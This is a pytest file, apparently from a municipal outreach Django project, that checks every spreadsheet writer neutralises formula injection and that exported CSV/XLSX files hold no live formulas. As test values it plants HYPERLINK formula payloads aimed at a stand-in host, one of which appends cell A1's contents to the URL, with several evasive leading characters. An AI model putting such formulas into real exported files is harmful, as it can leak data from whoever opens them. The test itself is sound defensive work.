"""Whoever writes a spreadsheet takes the one guard against formulas there is (D8): in the sources, and in the files."""

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from django.http import HttpResponse

from outreach.access.data_context import data_context
from outreach.access.roles import Role
from outreach.design.spreadsheets import FORMULA_STARTS, neutral, plain
from registry.models import HousingArea, Institution, ListRow, NonresponderList, Programme, TargetGroup
from tests.factories.cast import client_with_role
from tests.factories.geography import ISHOEJ
from tests.factories.world import job, world_in

from .test_access_matrix import NOW, Row, ask, matrix

ROOT = Path(__file__).resolve().parents[2]
APPS = ("registry", "campaigns", "popup_sites", "reports", "outreach")
# Calls that make a spreadsheet, of the libraries we have and of those that people reach for.
MAKERS = {"writer", "DictWriter", "Workbook", "to_csv", "to_excel", "write_csv", "write_excel"}
LIBRARIES = {"xlsxwriter", "xlwt", "odf", "pyexcel", "ezodf"}
FILE_KINDS = {"csv", "tsv", "xlsx", "xls", "ods"}
# No person opens these: a part of a national file as we read it again, and the demo's own input.
NOT_OPENED = {
    "registry/imports/national_parts.py",
    "outreach/demo/list_files.py",
    "outreach/demo/figure_files.py",
    "outreach/demo/people.py",
}
# Cells neutralised by the resource whose file they send.
BY_RESOURCE = {"registry/views/reference_data.py": "registry/resources/rows.py"}
FORMULA = '=HYPERLINK("http://ond.example";"Klik")'


def sources() -> Iterator[tuple[str, ast.Module]]:
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text(encoding="utf-8"))


def makes_a_spreadsheet(module: ast.Module) -> bool:
    for node in ast.walk(module):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else [each.name for each in node.names]
            if {name.partition(".")[0] for name in names} & LIBRARIES:
                return True
        if isinstance(node, ast.Call):
            called = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            first = node.args[0].value if node.args and isinstance(node.args[0], ast.Constant) else None
            if called in MAKERS or (called == "export" and first in FILE_KINDS):
                return True
    return False


def calls_the_guard(name: str) -> bool:
    """The module takes `neutral` from the one place it lies, and calls it."""
    module = ast.parse((ROOT / name).read_text(encoding="utf-8"))
    taken = any(
        isinstance(node, ast.ImportFrom)
        and node.module == "outreach.design.spreadsheets"
        and any(each.name == "neutral" and each.asname is None for each in node.names)
        for node in ast.walk(module)
    )
    return taken and any(
        isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "neutral"
        for node in ast.walk(module)
    )


def test_every_writer_of_spreadsheets_uses_the_guard() -> None:
    writers = {name for name, module in sources() if makes_a_spreadsheet(module)}
    assert NOT_OPENED | BY_RESOURCE.keys() <= writers
    unguarded = [name for name in sorted(writers - NOT_OPENED) if not calls_the_guard(BY_RESOURCE.get(name, name))]
    assert not unguarded


def test_there_is_one_guard() -> None:
    defined = [
        name
        for name, module in sources()
        for node in ast.walk(module)
        if isinstance(node, ast.FunctionDef) and node.name.strip("_").startswith(("neutral", "escape_formula"))
    ]
    assert defined == ["outreach/design/spreadsheets.py"]


@pytest.mark.parametrize(
    "source",
    [
        "import csv\ncsv.writer(file)",
        "from csv import DictWriter\nDictWriter(file, [])",
        "import openpyxl\nopenpyxl.Workbook()",
        "dataset.export('xlsx')",
        "frame.to_csv(path)",
        "import xlsxwriter",
    ],
)
def test_each_way_to_write_one_is_recognised(source: str) -> None:
    assert makes_a_spreadsheet(ast.parse(source))


@pytest.mark.django_db
def test_no_file_that_is_fetched_holds_a_formula() -> None:
    """Every address of the matrix that answers with a spreadsheet, where all that people may write is a formula."""
    world = world_in(ISHOEJ, NOW, "7110394002")
    Institution.objects.update(name=FORMULA, address=FORMULA)
    HousingArea.objects.update(name=FORMULA)
    Programme.objects.update(name=FORMULA)
    TargetGroup.objects.update(name=FORMULA)
    with data_context(job(ISHOEJ)):
        NonresponderList.objects.filter(pk=world.list_id).update(mapping={"name": FORMULA})
        ListRow.objects.create(
            municipality_id=ISHOEJ, nonresponder_list_id=world.list_id, row_number=2, row_class="unreadable",
            problem_code="name_missing", problem_column="name",
        )  # fmt: skip
    client = client_with_role(Role.LIST_ADMIN)
    reached, calculated = set(), []
    for row in [each for each in matrix() if each.method == "GET" and each.allows(Role.LIST_ADMIN)]:
        for cell in cells(ask(client, row, world), row):
            if cell.lstrip().startswith(FORMULA_STARTS):
                calculated.append(f"{row.url_name}: {cell[:40]}")
            if cell == neutral(FORMULA):
                reached.add(row.url_name)
    assert not calculated
    assert {
        "registry:reference_institutions_export",
        "registry:list_errors_csv",
        "registry:list_errors_xlsx",
    } <= reached


def cells(answer: HttpResponse, row: Row) -> Iterator[str]:
    """The texts in a fetched spreadsheet; nothing of another page."""
    kind = answer.headers.get("Content-Type", "")
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined]
    if kind.startswith("text/csv"):
        for line in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
            yield from line
    if "spreadsheetml" in kind:
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for found in sheet.iter_rows():
                assert not any(each.data_type == "f" for each in found), row.url_name
                yield from (each.value for each in found if isinstance(each.value, str))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠"])
def test_a_text_that_would_be_calculated_is_a_text_and_reads_back(start: str) -> None:
    text = f'{start}HYPERLINK("http://ond.example?"&A1)'
    assert neutral(text) == f"'{text}"
    assert plain(neutral(text)) == text


@pytest.mark.parametrize("value", ["Aase", "O'Brien", "'", 7, 7.5, ""])
def test_the_rest_is_left_alone(value: object) -> None:
    assert neutral(value) == value
